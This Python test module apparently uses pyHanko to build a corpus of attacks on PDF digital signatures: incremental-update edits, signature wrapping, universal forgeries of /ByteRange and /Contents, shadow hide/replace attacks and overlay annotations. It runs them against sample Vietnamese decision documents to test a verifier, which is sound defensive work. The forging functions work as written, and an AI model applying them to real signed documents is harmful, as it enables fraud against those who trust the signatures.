"""A corpus of attacks on PDF signatures, built by the tests from documents they sign themselves.

The classes follow the literature:

- incremental saving attacks (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019): content
  changed by an update appended after the signature;
- signature wrapping (same paper): the /ByteRange moved, overlapping, or its gap holding more
  than the signature;
- universal signature forgery (same paper): /Contents or /ByteRange missing, null, empty, of the
  wrong type, negative, overflowing, or not reaching the end of the signed revision;
- shadow attacks (Mainka, Mladenov, Rohlmann, "Shadow Attacks", NDSS 2021): objects prepared in
  the signed revision and activated afterwards — hide (an overlay removed), replace (a locked
  form value or a font swapped), hide-and-replace (an update made of nothing but a new xref
  table and trailer pointing an object number at a second definition already in the signed
  bytes).

Byte-level edits keep every length, so the cross-reference offsets stay right and only the
attacked part differs.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter

FORGED_TEXT = b"NOI DUNG GIA MAO"
"""What every content attack tries to make the reader see."""
HIDDEN_TEXT = b"Dieu 3. Chi 5 ty dong cho ong X"
"""What the shadow document prepares, invisible when signed."""
VISIBLE_TEXT = b"Dieu 3. Quyet dinh co hieu luc tu ngay ky"


# --- incremental saving attacks ------------------------------------------------------------


def _write(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _text_stream(text: bytes, y: int = 600) -> generic.StreamObject:
    return generic.StreamObject(stream_data=b"BT /F1 13 Tf 80 %d Td (%s) Tj ET" % (y, text))


def replace_page_content(pdf: bytes) -> bytes:
    """An update that gives page 1 a new content stream."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_ref = writer.find_page_for_modification(0)[0]
    page_ref.get_object()["/Contents"] = writer.add_object(_text_stream(FORGED_TEXT))
    writer.update_container(page_ref.get_object())
    return _write(writer)


def add_page(pdf: bytes) -> bytes:
    """An update that appends a page (e.g. an annex nobody signed)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = PageObject(
        contents=writer.add_object(_text_stream(FORGED_TEXT)),
        media_box=generic.ArrayObject(generic.NumberObject(v) for v in (0, 0, 595, 842)),
    )
    writer.insert_page(page)
    return _write(writer)


def change_font(pdf: bytes) -> bytes:
    """An update that swaps the font page 1 draws its text with."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = writer.find_page_for_modification(0)[0].get_object()
    fonts = page["/Resources"]["/Font"]
    font_ref = fonts.raw_get("/F1")
    font = font_ref.get_object()
    font["/BaseFont"] = pdf_name("/Courier")
    writer.update_container(font)
    return _write(writer)


def raw_object_override(pdf: bytes) -> bytes:
    """A hand-written update redefining page 1's content object, as an attacker's editor would."""
    reader = PdfFileReader(io.BytesIO(pdf))
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    contents = page.raw_get("/Contents")
    number = contents.idnum
    size = int(reader.trailer["/Size"])
    previous = _startxref(pdf)
    body = b"BT /F1 13 Tf 80 600 Td (%s) Tj ET" % FORGED_TEXT
    offset = len(pdf) + 1
    update = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        number,
        len(body),
        body,
    )
    xref_at = len(pdf) + len(update)
    update += b"xref\n%d 1\n%010d 00000 n \n" % (number, offset)
    update += _trailer(reader, size, previous, xref_at)
    return pdf + update


# --- signature wrapping --------------------------------------------------------------------


_BYTE_RANGE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\]( *)")


def _last_byte_range(pdf: bytes) -> re.Match[bytes]:
    found = list(_BYTE_RANGE.finditer(pdf))
    assert found, "no /ByteRange in the PDF"
    return found[-1]


def _rewrite_byte_range(pdf: bytes, values: bytes, occurrence: int = -1) -> bytes:
    """Replace a /ByteRange array's text (default: the last) by ``values``, keeping the length."""
    match = list(_BYTE_RANGE.finditer(pdf))[occurrence]
    old = match.group(0)
    new = b"/ByteRange " + values
    assert len(new) <= len(old), "replacement longer than the placeholder"
    new = new.ljust(len(old))
    return pdf[: match.start()] + new + pdf[match.end() :]


def byte_range_values(pdf: bytes) -> tuple[int, int, int, int]:
    match = _last_byte_range(pdf)
    a, b, c, d = (int(match.group(i)) for i in range(1, 5))
    return a, b, c, d


def overlapping_byte_range(pdf: bytes) -> bytes:
    """The second range starts inside the first one."""
    _a, b, c, d = byte_range_values(pdf)
    return _rewrite_byte_range(pdf, b"[0 %d %d %d]" % (b, b - 200, d + (c - b) + 200))


def moved_byte_range(pdf: bytes) -> bytes:
    """The gap moved to bytes before the signature: content there is no longer signed."""
    _a, b, c, d = byte_range_values(pdf)
    shift = 2000
    return _rewrite_byte_range(pdf, b"[0 %d %d %d]" % (b - shift, c - shift, d + shift))


def wrapped_signature(pdf: bytes) -> bytes:
    """Signature wrapping (CCS 2019): the signed tail copied to the end, /ByteRange pointed at it.

    The parser reads the real signature dictionary, whose /ByteRange now says the second
    signed part starts at the copy; between the two sit the attacker's objects. The bytes
    hashed (first part + the copy) are exactly the bytes signed, so the signature value still
    verifies: only a check that the gap holds nothing but /Contents catches it.
    """
    _a, b, c, d = byte_range_values(pdf)
    signed_tail = pdf[c : c + d]
    injected = b"\n99 0 obj\n<< /Length 40 >>\nstream\nBT /F1 13 Tf 80 600 Td (%s) Tj ET\n" % (
        FORGED_TEXT
    )
    injected += b"endstream\nendobj\n"
    copy_at = len(pdf) + len(injected)
    forged = pdf + injected + signed_tail
    return _rewrite_byte_range(forged, b"[0 %d %d %d]" % (b, copy_at, d), occurrence=-2)


# --- universal signature forgery -----------------------------------------------------------

_CONTENTS = re.compile(rb"/Contents <([0-9A-Fa-f]+)>")


def _last_contents(pdf: bytes) -> re.Match[bytes]:
    found = list(_CONTENTS.finditer(pdf))
    assert found, "no /Contents hex string in the PDF"
    return found[-1]


def _rewrite_contents(pdf: bytes, replacement: bytes) -> bytes:
    match = _last_contents(pdf)
    old = match.group(0)
    assert len(replacement) <= len(old)
    return pdf[: match.start()] + replacement.ljust(len(old)) + pdf[match.end() :]


CONTENTS_FORGERIES: dict[str, Callable[[bytes], bytes]] = {
    "missing": lambda pdf: _rewrite_contents(pdf, b"/Cxntents 0"),
    "null": lambda pdf: _rewrite_contents(pdf, b"/Contents null"),
    "empty": lambda pdf: _rewrite_contents(pdf, b"/Contents <>"),
    "number": lambda pdf: _rewrite_contents(pdf, b"/Contents 0"),
    "zeros": lambda pdf: _rewrite_contents(
        pdf, b"/Contents <" + b"0" * (len(_last_contents(pdf).group(1))) + b">"
    ),
}
"""Universal signature forgery on /Contents: the signature value is missing or meaningless."""


def _byte_range_forgeries() -> dict[str, Callable[[bytes], bytes]]:
    def values(fn: Callable[[tuple[int, int, int, int]], bytes]) -> Callable[[bytes], bytes]:
        return lambda pdf: _rewrite_byte_range(pdf, fn(byte_range_values(pdf)))

    def missing(pdf: bytes) -> bytes:
        match = _last_byte_range(pdf)
        return pdf[: match.start()] + b"/ByteRxnge" + pdf[match.start() + len(b"/ByteRange") :]

    return {
        "missing": missing,
        "null": lambda pdf: _replace_array(pdf, b"null"),
        "empty": values(lambda _r: b"[]"),
        "names": values(lambda _r: b"[/A /B /C /D]"),
        "strings": values(lambda r: b"[(0) (%d) (%d) (%d)]" % r[1:]),
        "three": values(lambda r: b"[0 %d %d]" % r[1:3]),
        "negative": values(lambda r: b"[0 %d -%d %d]" % (r[1], r[2], r[3])),
        "overflow": values(lambda r: b"[0 %d %d 99999999999999999999]" % (r[1], r[2])),
        "short": values(lambda r: b"[0 %d %d %d]" % (r[1], r[2], r[3] - 100)),
        "whole_gap": values(lambda r: b"[0 0 %d %d]" % (r[2], r[3])),
        "not_from_zero": values(lambda r: b"[100 %d %d %d]" % (r[1] - 100, r[2], r[3])),
    }


def _replace_array(pdf: bytes, text: bytes) -> bytes:
    match = _last_byte_range(pdf)
    old = match.group(0)
    return pdf[: match.start()] + (b"/ByteRange " + text).ljust(len(old)) + pdf[match.end() :]


BYTE_RANGE_FORGERIES = _byte_range_forgeries()
"""Universal signature forgery on /ByteRange."""


# --- shadow attacks ------------------------------------------------------------------------


def shadow_document() -> bytes:
    """An unsigned decision prepared by an attacker for all three shadow attacks.

    - Page 1 draws VISIBLE_TEXT, and a white opaque overlay (a /Square annotation with an
      appearance covering the middle of the page) hides HIDDEN_TEXT drawn underneath (hide).
    - The page's content object has a second definition later in the same file, holding
      HIDDEN_TEXT in the clear; the xref points at the first one (hide-and-replace).
    """
    writer = PdfFileWriter(stream_xrefs=False)
    font = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Times-Roman"),
                pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
            }
        )
    )
    words = [
        (60, 780, b"SO NOI VU TINH MAU"),
        (60, 750, b"So:"),
        (310, 750, b"Tinh Mau,"),
        (250, 650, b"QUYET DINH"),
        (80, 600, VISIBLE_TEXT),
        (80, 560, HIDDEN_TEXT),
        (405, 330, b"GIAM DOC"),
        (395, 235, b"Nguyen Van An"),
    ]
    ops = b" ".join(b"BT /F1 13 Tf %d %d Td (%s) Tj ET" % word for word in words)
    contents = writer.add_object(generic.StreamObject(stream_data=ops))
    overlay_appearance = writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (0, 0, 460, 30)
                ),
            },
            stream_data=b"1 1 1 rg 0 0 460 30 re f",
        )
    )
    overlay = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Square"),
                pdf_name("/Rect"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (70, 550, 530, 580)
                ),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): overlay_appearance}),
            }
        )
    )
    page = PageObject(
        contents=contents,
        media_box=generic.ArrayObject(generic.NumberObject(v) for v in (0, 0, 595, 842)),
        resources=generic.DictionaryObject(
            {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
        ),
    )
    page[pdf_name("/Annots")] = generic.ArrayObject([overlay])
    writer.insert_page(page)
    out = io.BytesIO()
    writer.write(out)
    pdf = out.getvalue()
    # The second definition of the content object, unreferenced by the xref: inert until an
    # update's xref points at it. Inserted before the xref table, whose offsets are recomputed.
    return _with_shadow_definition(pdf, contents.idnum)


def _with_shadow_definition(pdf: bytes, number: int) -> bytes:
    reader = PdfFileReader(io.BytesIO(pdf))
    body = b"BT /F1 13 Tf 80 600 Td (%s) Tj ET" % HIDDEN_TEXT
    shadow = b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        number,
        len(body),
        body,
    )
    xref_at = _startxref(pdf)
    rebuilt = pdf[:xref_at] + shadow
    # rewrite the classic xref table with the shifted offset of the table itself
    tail = pdf[xref_at:]
    new_xref_at = len(rebuilt)
    tail = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % new_xref_at, tail)
    del reader
    return rebuilt + tail


def shadow_offset(pdf: bytes, number: int) -> int:
    """Where the second ('shadow') definition of object ``number`` starts."""
    found = [m.start() for m in re.finditer(rb"(?<![0-9])%d 0 obj" % number, pdf)]
    assert len(found) >= 2, f"object {number} has no shadow definition"
    return found[1]


def shadow_hide(pdf: bytes) -> bytes:
    """Hide: an update that only drops the overlay annotation, revealing HIDDEN_TEXT."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = writer.find_page_for_modification(0)[0].get_object()
    annots = page["/Annots"]
    kept = generic.ArrayObject(
        a for a in annots if str(a.get_object().get("/Subtype")) != "/Square"
    )
    page["/Annots"] = kept
    writer.update_container(page)
    return _write(writer)


def shadow_replace_field(pdf: bytes, field_name: str, value: str) -> bytes:
    """Replace: an update that changes the value of a filled, read-only form field."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if str(field.get("/T")) == field_name:
            field["/V"] = generic.TextStringObject(value)
            writer.update_container(field)
            break
    else:
        raise AssertionError(f"no field {field_name}")
    return _write(writer)


def shadow_hide_and_replace(pdf: bytes) -> bytes:
    """Hide-and-replace: an update of nothing but an xref table and a trailer.

    The xref entry of page 1's content object now points at the shadow definition that was in
    the signed bytes all along; no object is added or written after the signature.
    """
    reader = PdfFileReader(io.BytesIO(pdf))
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    number = page.raw_get("/Contents").idnum
    target = shadow_offset(pdf, number)
    size = int(reader.trailer["/Size"])
    previous = _startxref(pdf)
    xref_at = len(pdf) + 1
    update = b"\nxref\n%d 1\n%010d 00000 n \n" % (number, target)
    update += _trailer(reader, size, previous, xref_at)
    return pdf + update


# --- annotations under a certification that allows them (DocMDP P=3) ---------------------


def comment_annotation(pdf: bytes, text: str = "Đề nghị bổ sung căn cứ pháp lý") -> bytes:
    """Not an attack: a reader's comment, a sticky note (/Text, 20 pt icon) with its popup,
    added in an update as a PDF viewer adds one."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_ref = writer.find_page_for_modification(0)[0]
    icon = writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (0, 0, 20, 20)
                ),
            },
            stream_data=b"1 1 0 rg 0 0 20 20 re f 0 G 1 w 4 4 12 12 re S",
        )
    )
    note = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Text"),
                pdf_name("/Rect"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (540, 700, 560, 720)
                ),
                pdf_name("/Contents"): generic.TextStringObject(text),
                pdf_name("/T"): generic.TextStringObject("Chuyên viên pháp chế"),
                pdf_name("/Name"): pdf_name("/Comment"),
                pdf_name("/F"): generic.NumberObject(4 | 8 | 16),  # print, no zoom, no rotate
                pdf_name("/P"): page_ref,
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): icon}),
            }
        )
    )
    popup = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Popup"),
                pdf_name("/Rect"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (360, 600, 560, 700)
                ),
                pdf_name("/Parent"): note,
                pdf_name("/Open"): generic.BooleanObject(False),
            }
        )
    )
    note.get_object()[pdf_name("/Popup")] = popup
    writer.register_annotation(page_ref, note)
    writer.register_annotation(page_ref, popup)
    return _write(writer)


def overlay_annotation(pdf: bytes, subtype: str = "/FreeText") -> bytes:
    """Evil annotation attack (Rohlmann et al., "Breaking the Specification: PDF
    Certification", S&P 2021): an opaque annotation over the signed text, showing FORGED_TEXT
    where VISIBLE_TEXT was. ``subtype``: /FreeText, /Square, /Stamp, or /Text (a 'comment'
    stretched over the text)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page_ref = writer.find_page_for_modification(0)[0]
    font = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Times-Roman"),
            }
        )
    )
    cover = writer.add_object(
        generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (0, 0, 460, 30)
                ),
                pdf_name("/Resources"): generic.DictionaryObject(
                    {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
                ),
            },
            stream_data=b"1 1 1 rg 0 0 460 30 re f BT 0 g /F1 13 Tf 10 10 Td (%s) Tj ET"
            % FORGED_TEXT,
        )
    )
    annot = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name(subtype),
                pdf_name("/Rect"): generic.ArrayObject(
                    generic.NumberObject(v) for v in (70, 590, 530, 620)
                ),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/P"): page_ref,
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): cover}),
            }
        )
    )
    writer.register_annotation(page_ref, annot)
    return _write(writer)


# --- helpers -------------------------------------------------------------------------------


def _startxref(pdf: bytes) -> int:
    matches = list(re.finditer(rb"startxref\s+(\d+)", pdf))
    return int(matches[-1].group(1))


def _trailer(reader: PdfFileReader, size: int, previous: int, xref_at: int) -> bytes:
    root = reader.trailer.raw_get("/Root")
    info = reader.trailer.raw_get("/Info") if "/Info" in reader.trailer else None
    ids = reader.trailer["/ID"] if "/ID" in reader.trailer else None  # noqa: SIM401 (no .get)
    parts = [b"/Size %d" % size, b"/Root %d %d R" % (root.idnum, root.generation)]
    if info is not None:
        parts.append(b"/Info %d %d R" % (info.idnum, info.generation))
    if ids is not None:
        first, second = (_raw_string(item) for item in ids)
        parts.append(b"/ID [<%s> <%s>]" % (first.hex().encode(), second.hex().encode()))
    parts.append(b"/Prev %d" % previous)
    return b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (b" ".join(parts), xref_at)


def _raw_string(item: object) -> bytes:
    raw = getattr(item, "original_bytes", None)
    return bytes(raw) if raw is not None else bytes(item)  # type: ignore[call-overload]
